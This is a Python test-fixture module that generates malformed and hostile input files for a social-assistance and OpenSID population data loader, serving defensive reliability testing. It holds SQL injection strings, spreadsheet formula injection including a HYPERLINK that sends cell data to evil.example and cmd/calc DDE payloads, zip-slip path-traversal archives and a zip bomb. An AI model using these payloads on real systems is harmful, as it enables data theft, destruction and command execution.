"""The bad-input corpus: small hostile files for the Dinas Sosial CSV and OpenSID Excel drops.

Every file is built here (deterministic, fictional people), so the corpus can be regenerated
and reviewed: ``uv run python -m tests.reliability.corpus.make`` writes it to
``tests/reliability/corpus/files/``. The tests build the same bytes in a temporary drop
folder. The 100 MB single-field file is only ever built at test time (``huge_field_csv``).

``EXPECT`` says what each file must give: ``"error"`` (the file is rejected on its own with a
bilingual reason naming it; the run is "partial", exit 4) or ``"rows"`` (every row loaded or
quarantined, none lost), with the row count. Row problems (a ragged row, a broken quote, an
over-long text) stay row problems: the row is quarantined naming file and line.
"""

from __future__ import annotations

import io
from datetime import datetime
from pathlib import Path

HEADER = ["NIK", "NO_KK", "NAMA", "PROGRAM", "PERIODE", "KODE_DESA", "NOMINAL"]
ROWS = [
    [
        "1608014406795631",
        "1608012304172442",
        "ZELAYA LARAS",
        "BLT-DD",
        "2026-Q3",
        "1608011008",
        "900000",
    ],
    [
        "1608016111992018",
        "1608012407164846",
        "VERA SARAH",
        "BLT-DD",
        "2026-Q3",
        "1608012011",
        "900000",
    ],
    [
        "1608016210632983",
        "1608010312079657",
        "LAILA OLIVIA FARIDA",
        "BPNT",
        "2026-Q3",
        "1608011007",
        "600000",
    ],
]
HOSTILE = [
    "Robert'); DROP TABLE core.penerima_bantuan;--",
    "x' OR '1'='1",
    '"; DELETE FROM ops.loads; --',
    "$$; SELECT pg_sleep(10); $$",
    'O\'Brien "Bung" \\ back\\slash',
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


def csv_bytes(rows: list[list[str]], *, header=HEADER, sep=";", encoding="utf-8-sig") -> bytes:
    lines = [sep.join(header)] + [sep.join(_q(v, sep) for v in r) for r in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def _q(value: str, sep: str) -> str:
    if any(c in value for c in (sep, '"', "\n", "\r")):
        return '"' + value.replace('"', '""') + '"'
    return value


def _replace(row: list[str], **cols: str | None) -> list[str]:
    out = list(row)
    for k, v in cols.items():
        out[HEADER.index(k)] = "" if v is None else v
    return out


def dinsos_cases() -> dict[str, tuple[bytes, str, int]]:
    """name -> (file bytes, expectation, rows received when it loads)."""
    good = csv_bytes(ROWS)
    cut = good[: good.rindex(b"\r\n", 0, len(good) - 2) + 2 + 9]  # last row cut inside its NIK
    hostile_rows = [
        _replace(ROWS[i % 3], NAMA=h, PROGRAM=h if i % 2 else ROWS[i % 3][3], PERIODE=h)
        for i, h in enumerate(HOSTILE)
    ]
    return {
        "good.csv": (good, "rows", 3),
        "cp1252.csv": (
            csv_bytes(
                [_replace(r, NAMA="JOSÉ ÑUÑEZ ÇAĞ".replace("Ğ", "G")) for r in ROWS],
                encoding="cp1252",
            ),
            "rows",
            3,
        ),
        "utf16_bom.csv": (csv_bytes(ROWS, encoding="utf-16"), "rows", 3),
        "tab_separated.csv": (csv_bytes(ROWS, sep="\t", encoding="utf-8"), "rows", 3),
        "truncated_mid_row.csv": (cut, "rows", 3),
        "truncated_in_quote.csv": (good + b'1608016210632983;"LAILA', "rows", 4),
        "merged_header_rows.csv": (
            (b"DAFTAR PENERIMA BANTUAN SOSIAL KECAMATAN MARTAPURA\r\n") + good,
            "error",
            0,
        ),
        "empty.csv": (b"", "error", 0),
        "only_bom.csv": (b"\xef\xbb\xbf\r\n\r\n", "error", 0),
        "header_only.csv": (csv_bytes([]), "rows", 0),
        "duplicate_columns.csv": (csv_bytes(ROWS, header=[*HEADER[:-1], "NIK"]), "error", 0),
        "duplicate_columns_case.csv": (csv_bytes(ROWS, header=[*HEADER[:-1], "nik"]), "error", 0),
        "ragged_extra_values.csv": (
            csv_bytes([ROWS[0], [*ROWS[1], "EXTRA"], ROWS[2]]),
            "rows",
            3,
        ),
        # a stray quote mid-file: one quarantined row, the lines after it still read
        "unterminated_quote_mid_file.csv": (
            csv_bytes(ROWS[:1])
            + b'1608016111992018;1608012407164846;"VERA SARAH;BLT-DD;2026-Q3;1608012011;900000'
            + b"\r\n"
            + csv_bytes(ROWS[2:]).split(b"\r\n", 1)[1],
            "rows",
            3,
        ),
        "formula_cells.csv": (
            csv_bytes(
                [
                    _replace(ROWS[0], NIK="=1+1"),
                    _replace(ROWS[1], NAMA="=cmd|'/C calc'!A0"),
                    ROWS[2],
                ]
            ),
            "rows",
            3,
        ),
        "control_chars.csv": (
            csv_bytes(
                [
                    _replace(ROWS[0], NAMA="SITI\x00AMINAH"),
                    _replace(ROWS[1], NAMA="BUDI\x1b[31m\x07 \u2028 \ufeffSANTOSO\x7f"),
                    _replace(ROWS[2], NIK="\u200b1608016210632983\u00a0"),
                ]
            ),
            "rows",
            3,
        ),
        "sql_and_quotes.csv": (csv_bytes(hostile_rows), "rows", len(hostile_rows)),
        "unexpected_nulls.csv": (
            csv_bytes(
                [
                    _replace(ROWS[0], NIK=None),
                    _replace(ROWS[1], PROGRAM=None, PERIODE=None),
                    _replace(ROWS[2], NOMINAL=None, KODE_DESA=None),
                    ["", "", "", "", "", "", "NULL"],
                ]
            ),
            "rows",
            4,
        ),
        "binary_garbage.csv": (bytes(range(256)) * 4, "error", 0),
    }


def huge_field_csv(size: int = 100 * 1024 * 1024) -> bytes:
    """One row whose NAMA is ``size`` bytes (built at test time, never committed)."""
    head = csv_bytes(ROWS[:1])
    row = ";".join(_replace(ROWS[1], NAMA="")).split(";")
    i = HEADER.index("NAMA")
    return (
        head
        + (";".join(row[:i]) + ";").encode()
        + b"A" * size
        + (";" + ";".join(row[i + 1 :]) + "\r\n").encode()
    )


# ----------------------------------------------------------------------------- OpenSID
OPENSID_HEADER = [
    "alamat", "dusun", "rw", "rt", "nama", "no_kk", "nik", "sex", "tempatlahir", "tanggallahir",
    "agama_id", "pendidikan_kk_id", "pendidikan_sedang_id", "pekerjaan_id", "status_kawin",
    "kk_level", "warganegara_id", "ayah_nik", "nama_ayah", "ibu_nik", "nama_ibu",
    "golongan_darah_id", "akta_lahir", "dokumen_pasport", "tanggal_akhir_paspor", "dokumen_kitas",
    "akta_perkawinan", "tanggalperkawinan", "akta_perceraian", "tanggalperceraian", "cacat_id",
    "cara_kb_id", "hamil", "ktp_el", "status_rekam", "alamat_sekarang", "status_dasar", "suku",
    "tag_id_card", "id_asuransi", "no_asuransi", "lat", "lng",
]  # fmt: skip
_O = dict.fromkeys(OPENSID_HEADER)
OPENSID_ROWS = [
    {**_O, "alamat": "JL. GARUDA NO. 131", "dusun": "LINGKUNGAN I", "rw": "001", "rt": "002",
     "nama": "SILVIA", "no_kk": "1608010703065946", "nik": "1608015507806070", "sex": 2,
     "tempatlahir": "MARTAPURA", "tanggallahir": datetime(1980, 7, 15), "agama_id": 1,
     "pendidikan_kk_id": 5, "pekerjaan_id": 2, "status_kawin": 4, "kk_level": 1,
     "warganegara_id": 1, "nama_ayah": "TASWIR", "nama_ibu": "SHANIA RAINA GINA",
     "golongan_darah_id": 13, "status_rekam": 3, "status_dasar": 1},
    {**_O, "alamat": "JL. GARUDA NO. 131", "dusun": "LINGKUNGAN I", "rw": "001", "rt": "002",
     "nama": "WAGE DONGORAN", "no_kk": "1608010703065946", "nik": "1608050104058616", "sex": 1,
     "tempatlahir": "BUAY PEMUKA PELIUNG", "tanggallahir": datetime(2005, 4, 1), "agama_id": 1,
     "pendidikan_kk_id": 1, "pekerjaan_id": 88, "status_kawin": 1, "kk_level": 9,
     "warganegara_id": 1, "nama_ayah": "HARJO RAHMAT GANDI", "nama_ibu": "RATNA HUMAIRA",
     "golongan_darah_id": 7, "status_rekam": 3, "status_dasar": 1},
]  # fmt: skip
OPENSID_NAME = "penduduk_16.08.01.1007.xlsx"


def xlsx_bytes(
    rows: list[dict], *, header=OPENSID_HEADER, sheet="Data Penduduk", title: str | None = None
) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    if title:
        ws.append([title])
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(header))
    ws.append(header)
    for r in rows:
        ws.append([r.get(h) for h in header])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def zip_bomb(size: int = 64 * 1024**2) -> bytes:
    """A ZIP whose one member expands about 1000-fold (zeros): refused from the directory."""
    return zip_bytes({"penduduk.xlsx": bytes(size)})


def opensid_cases() -> dict[str, tuple[bytes, str, int]]:
    good = xlsx_bytes(OPENSID_ROWS)
    hostile = [
        {**OPENSID_ROWS[i % 2], "nama": h, "alamat": h, "dusun": h, "tempatlahir": h}
        for i, h in enumerate(HOSTILE)
    ]
    # distinct NIKs so none is a duplicate: serials 0001..
    for i, r in enumerate(hostile):
        r["nik"] = r["nik"][:12] + f"{i + 1:04d}"
    return {
        "good": (good, "rows", 2),
        "truncated": (good[: len(good) // 2], "error", 0),
        "empty": (b"", "error", 0),
        "csv_renamed": (b"nik,nama\n1,2\n", "error", 0),
        "wrong_sheet": (xlsx_bytes(OPENSID_ROWS, sheet="Sheet1"), "error", 0),
        # the header is found below title rows and merged cells
        "merged_title_row": (
            xlsx_bytes(OPENSID_ROWS, title="DATA PENDUDUK DESA KOTA BARU"),
            "rows",
            2,
        ),
        # a 32,000-character address: quarantined by the max_length rule, not loaded silently
        "address_32000_chars": (
            xlsx_bytes([{**OPENSID_ROWS[0], "alamat": "JL. " + "A" * 32_000}, OPENSID_ROWS[1]]),
            "rows",
            2,
        ),
        # a NIK typed as a number cell: loads with a warning (Excel keeps 15 digits)
        "nik_number_cell": (
            xlsx_bytes([{**OPENSID_ROWS[0], "nik": 1608015507806070}, OPENSID_ROWS[1]]),
            "rows",
            2,
        ),
        "zip_slip": (zip_bytes({"../../etc/evil.xlsx": good}), "error", 0),
        "zip_absolute_member": (zip_bytes({"/tmp/evil.xlsx": good}), "error", 0),
        "zip_bomb": (zip_bomb(), "error", 0),
        "duplicate_columns": (
            xlsx_bytes(OPENSID_ROWS, header=[*OPENSID_HEADER[:-1], "nik"]),
            "error",
            0,
        ),
        "formula_cells": (
            xlsx_bytes(
                [
                    {**OPENSID_ROWS[0], "nik": "=1608015507806070+0"},
                    {**OPENSID_ROWS[1], "nama": '=HYPERLINK("http://x","y")'},
                ]
            ),
            "rows",
            2,
        ),
        "sql_and_quotes": (xlsx_bytes(hostile), "rows", len(hostile)),
        "unexpected_nulls": (
            xlsx_bytes(
                [
                    {**OPENSID_ROWS[0], "nik": None, "nama": None},
                    {**OPENSID_ROWS[1], "tanggallahir": None, "sex": None},
                ]
            ),
            "rows",
            2,
        ),
    }


def main() -> None:
    out = Path(__file__).with_name("files")
    (out / "dinsos").mkdir(parents=True, exist_ok=True)
    (out / "opensid").mkdir(parents=True, exist_ok=True)
    for name, (data, _, _) in dinsos_cases().items():
        (out / "dinsos" / name).write_bytes(data)
    for name, (data, _, _) in opensid_cases().items():
        target = f"{name}__{OPENSID_NAME}"
        if name.startswith("zip_"):
            target = target.removesuffix(".xlsx") + ".zip"
        (out / "opensid" / target).write_bytes(data)


if __name__ == "__main__":
    main()
